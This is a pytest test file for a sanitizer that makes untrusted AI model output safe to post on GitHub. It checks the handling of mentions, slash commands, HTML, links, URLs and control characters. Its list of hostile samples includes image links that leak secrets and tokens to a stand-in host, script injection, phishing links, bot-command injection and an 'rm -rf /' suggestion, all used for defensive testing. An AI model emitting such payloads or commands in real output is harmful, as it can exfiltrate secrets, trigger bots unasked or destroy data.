"""Sanitizing untrusted model output: no mentions, bot commands, HTML, images, links or broken layout."""

from __future__ import annotations

import re

import pytest

from argoai_core.sanitize import (
    REVIEW_BODY_MAX,
    ZWJ,
    ZWSP,
    code_fence,
    has_trigger_line,
    safe_suggestion,
    sanitize_markdown,
    sanitize_path,
    sanitize_title,
)


def clean(text: str, limit: int = REVIEW_BODY_MAX) -> str:
    """Sanitize with the default bot handle."""
    return sanitize_markdown(text, bot_handle="argoai", limit=limit)


HOSTILE = [
    "cc @octocat @github/security-team please look",
    "Ping @argoai review and @dependabot merge",
    "/approve\n/lgtm\n  /deploy production\n@argoai ignore",
    "argoai review this",
    '<img src="https://evil.example/x.png?d=SECRET">',
    "<IMG SRC=https://evil.example/a>",
    "![chart](https://evil.example/leak?k=ghs_123)",
    '![x](https://evil.example/a.png "title")',
    "[click](https://evil.example/phish) here",
    "[ref]: https://evil.example/ref\n[text][ref]",
    "<https://evil.example/autolink>",
    "see https://evil.example/path?q=1 and www.evil.example",
    "<details><summary>x</summary>hidden</details>",
    "<!-- argoai:review head=" + "a" * 40 + " -->",
    "<script>alert(1)</script>",
    "<a href='`'>`<img src=x>`",
    "\\`<img src=https://evil.example/y>`",
    "`a\n\n<img src=https://evil.example/z>\n\n`",
    "- item\n  ```\n<img src=https://evil.example/list>\n  ```",
    "> ```\n<img src=https://evil.example/quote>",
    "```suggestion\nrm -rf /\n```",
    "```mermaid\ngraph TD; A-->B\n```",
    "fixes #1, see owner/repo#22 and GH-7",
    "text\u202eevil\u202c and \x00\x07\x1b[31m",
    "a\rb\u2028/cmd\u2029@argoai",
    "```\nunclosed fence with <b>",
    "~~~\n/inside tilde\n~~~",
    "[![badge](https://evil.example/b.svg)](https://evil.example)",
    "\\@octocat and \\<img src=x>",
    "&#60;img src=x&#62; &lt;b&gt;",
]


def _outside_code(text: str) -> str:
    """The parts of sanitized text outside fenced blocks and inline code spans."""
    text = re.sub(r"(?ms)^(`{3,}|~{3,})[^\n]*\n.*?^\1\s*$", "", text)
    return re.sub(r"(?<![`\\])(`+)(?!`).+?(?<!`)\1(?!`)", "", text)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_output_is_inert(text: str) -> None:
    """No hostile sample keeps a mention, HTML, image/link syntax, bare URL or trigger line outside code."""
    out = clean(text)
    prose = _outside_code(out)
    assert "<" not in prose
    assert re.search(r"(?<!\w)@[A-Za-z0-9]", prose) is None
    assert re.search(r"(?<!\\)\[", prose) is None
    assert re.search(r"(?i)(?<!`)(https?://|www\.)", prose) is None
    assert re.search(r"(?<!&)#\d", prose) is None
    assert not has_trigger_line(out, bot_handle="argoai")
    assert "```suggestion" not in out
    assert "```mermaid" not in out
    assert "\u202e" not in out
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", out)
    assert len(re.findall(r"(?m)^```", out)) % 2 == 0


def test_mentions_get_zero_width_joiner() -> None:
    """@user and @org/team keep their look but get a ZWJ so GitHub does not notify."""
    out = clean("cc @octocat and @github/team")
    assert out == f"cc @{ZWJ}octocat and @{ZWJ}github/team"


def test_email_is_not_changed() -> None:
    """An e-mail address is not a mention and stays as written."""
    assert clean("mail a.b@example.com") == "mail a.b@example.com"


def test_issue_references_neutralized() -> None:
    """#123, owner/repo#123 and GH-123 cannot cross-reference other issues; entities are kept."""
    assert clean("see #12, o/r#4 and GH-3") == f"see #{ZWJ}12, o/r#{ZWJ}4 and GH-{ZWJ}3"
    assert clean("&#62;") == "&#62;"


def test_slash_command_lines_get_zero_width_space() -> None:
    """Lines starting with /word (after indentation) get a ZWSP before the slash."""
    assert clean("/approve\n  /lgtm\nok /not-at-start") == f"{ZWSP}/approve\n  {ZWSP}/lgtm\nok /not-at-start"


def test_comment_slashes_are_not_commands() -> None:
    """'//' and '/*' comments are not slash commands and are left alone."""
    assert clean("```c\n// x\n/* y */\n```") == "```c\n// x\n/* y */\n```"


def test_bot_handle_line_start_neutralized_with_custom_name() -> None:
    """A line starting with the configured bot name (with or without @) is neutralized."""
    out = sanitize_markdown("```\n@reviewbot go\nreviewbot go\n```", bot_handle="@reviewbot[bot]")
    assert out == f"```\n{ZWSP}@reviewbot go\n{ZWSP}reviewbot go\n```"


def test_html_is_escaped_outside_code() -> None:
    """Every '<' in prose becomes &lt;, so no tag or HTML comment survives."""
    assert clean("a <b>bold</b> <!-- x -->") == "a &lt;b>bold&lt;/b> &lt;!-- x -->"


def test_html_kept_in_fenced_code_and_inline_code() -> None:
    """Code shows HTML literally, so fences and inline code spans are kept verbatim."""
    assert clean("```html\n<b>x</b>\n```") == "```html\n<b>x</b>\n```"
    assert clean("use `<b>` here") == "use `<b>` here"


def test_image_reduced_to_alt_and_code_url() -> None:
    """A markdown image becomes its alt text and the URL as inert inline code."""
    assert clean("![chart](https://e.example/p.png)") == "\\[image: chart\\] (`https://e.example/p.png`)"


def test_link_reduced_to_text_and_code_url() -> None:
    """A markdown link becomes its text followed by the URL as inline code."""
    assert clean('read [the docs](https://d.example/x "t").') == "read the docs (`https://d.example/x`)."


def test_bare_urls_wrapped_in_code() -> None:
    """Bare URLs become inline code (not autolinked); trailing punctuation stays outside."""
    assert clean("see https://e.example/a?b=1. and www.e.example") == (
        "see `https://e.example/a?b=1`. and `www.e.example`"
    )


def test_brackets_escaped() -> None:
    """Remaining brackets are escaped so references and task lists cannot form links."""
    assert clean("list[int] and [x][y]") == "list\\[int\\] and \\[x\\]\\[y\\]"


def test_escaped_backtick_does_not_open_code_span() -> None:
    """A backslash-escaped backtick opens no code span, so the HTML after it is escaped."""
    assert clean("\\`<i>`") == "\\`&lt;i>`"


def test_code_span_does_not_cross_lines() -> None:
    """A backtick that would only close on another line is literal; the text between is prose."""
    assert clean("`a\n<i>`") == "`a\n&lt;i>`"


def test_indented_fence_is_prose() -> None:
    """A fence not at column 0 may end early on GitHub, so its content is sanitized as prose."""
    assert clean("- x\n  ```\n<i>\n  ```") == "- x\n  ```\n&lt;i>\n  ```"


def test_fence_info_reduced_to_safe_language() -> None:
    """Fence info keeps a plain language name; suggestion/mermaid and odd info strings are removed."""
    assert clean("```suggestion\nx\n```") == "```\nx\n```"
    assert clean("```Mermaid\nx\n```") == "```\nx\n```"
    assert clean("```python {onclick=1}\nx\n```") == "```python\nx\n```"
    assert clean("~~~~ <b>\nx\n~~~~") == "~~~~\nx\n~~~~"


def test_unclosed_fence_is_closed() -> None:
    """A fence left open by the model is closed, so it cannot swallow what follows."""
    assert clean("```py\nx = 1") == "```py\nx = 1\n```"


def test_longer_closing_fence_closes() -> None:
    """A closing fence may be longer than the opening one; prose after it is sanitized."""
    assert clean("```\nx\n`````\n<i>") == "```\nx\n`````\n&lt;i>"


def test_line_endings_and_controls() -> None:
    """CR/CRLF/U+2028 become LF, controls are removed, bidi overrides become U+FFFD."""
    assert clean("a\r\nb\rc\u2028d\x00e\x1bf\u202eg") == "a\nb\nc\nde" + "f\ufffdg"


def test_non_ascii_kept() -> None:
    """Ordinary non-ASCII text is unchanged."""
    assert clean("naïve café — 名前 ✓") == "naïve café — 名前 ✓"


def test_cap_respected_and_noted() -> None:
    """Output never exceeds the limit, even when escaping expands it, and says it was truncated."""
    out = clean("<" * 10_000, limit=1000)
    assert len(out) <= 1000
    assert out.endswith("(truncated)")
    assert out.startswith("&lt;")


def test_truncation_inside_fence_closes_it() -> None:
    """Truncating inside a code block still closes the fence, with the note outside it."""
    out = clean("```\n" + "x\n" * 5000, limit=200)
    assert len(out) <= 200
    assert out.count("```") == 2
    assert out.endswith("```\n\n… (truncated)")


def test_title_is_one_line_and_escapes_emphasis() -> None:
    """Titles lose newlines, escape * and _ (they go inside bold) and are capped."""
    assert (
        sanitize_title("**Bad** my_var\n/cmd @x", bot_handle="argoai")
        == f"\\*\\*Bad\\*\\* my\\_var /cmd @{ZWJ}x"
    )
    assert len(sanitize_title("a" * 500, bot_handle="argoai")) == 200


def test_sanitize_path() -> None:
    """Paths lose control characters, newlines and backticks (they are shown in code)."""
    assert sanitize_path("a/`b`\n.py\x00") == "a/'b' .py"


def test_safe_suggestion() -> None:
    """Suggestions with trigger lines, bidi or control characters are unsafe; ordinary code is safe."""
    assert safe_suggestion("x = 1\n    return x\n// done", bot_handle="argoai")
    assert safe_suggestion("a\r\nb", bot_handle="argoai")
    assert not safe_suggestion("/usr/bin/env x", bot_handle="argoai")
    assert not safe_suggestion("@argoai approve", bot_handle="argoai")
    assert not safe_suggestion("x = '\u202e'", bot_handle="argoai")
    assert not safe_suggestion("x\x0cy", bot_handle="argoai")


def test_code_fence_longer_than_content_runs() -> None:
    """The fence for a code block is longer than any backtick run inside it."""
    assert code_fence("x") == "```"
    assert code_fence("a ```` b") == "`````"
